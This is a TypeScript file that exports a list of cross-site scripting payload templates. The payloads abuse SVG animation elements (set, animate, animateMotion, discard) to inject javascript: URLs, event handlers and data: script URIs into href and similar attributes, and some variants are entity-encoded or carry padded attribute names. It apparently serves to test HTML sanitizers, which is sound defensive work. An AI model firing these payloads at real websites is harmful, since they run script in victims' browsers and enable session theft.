// Animation can give an element an address or a handler after it has been looked at.
const targets = ['href', 'xlink:href', 'src', 'onclick', 'to', 'style', 'filter', 'fill'];
const elements = ['set', 'animate', 'animateTransform', 'animateMotion', 'animateColor'];

export const svgAnimation: readonly string[] = [
  ...targets.flatMap((target) => [
    `<svg><a><text y=20>x</text><set attributeName="${target}" to="javascript:{run}" begin="0s" /></a></svg>`,
    `<svg><a id=t href=#x><text y=20>x</text></a><animate href="#t" attributeName="${target}" values="javascript:{run}" dur="1ms" fill="freeze" /></svg>`,
  ]),
  ...elements.flatMap((element) => [
    `<svg><${element} onbegin={run} attributeName=x dur=1s></${element}></svg>`,
    `<svg><rect><${element} onend={run} onrepeat={run} attributeName=width dur=1ms repeatCount=2></${element}></rect></svg>`,
    `<${element} onbegin={run} attributeName=href to="javascript:{run}">outside of svg</${element}>`,
  ]),
  '<svg><image><animate attributeName=href values="{url}" dur=1ms fill=freeze /></image></svg>',
  '<svg><use><set attributeName=href to="data:image/svg+xml,<svg id=x><script>{run}</script></svg>#x" /></use></svg>',
  '<svg><script><set attributeName=href to="data:text/javascript,{run}" /></script></svg>',
  '<svg><animate attributeName=href from="javascript:{run}" to="#" xlink:href="#link" /></svg><a id=link>x</a>',
  '<svg><animateMotion path="M0,0" onbegin={run} dur=1s><mpath href="{url}#p" /></animateMotion></svg>',
  '<svg><a><animate attributeName=href values="&#106;avascript:{run};x" /><text>x</text></a></svg>',
  '<svg><a><animate attributeName=" href " values="javascript:{run}" /><text>x</text></a></svg>',
  '<svg><discard begin="0s" href="#host" onbegin={run} /></svg>',
];
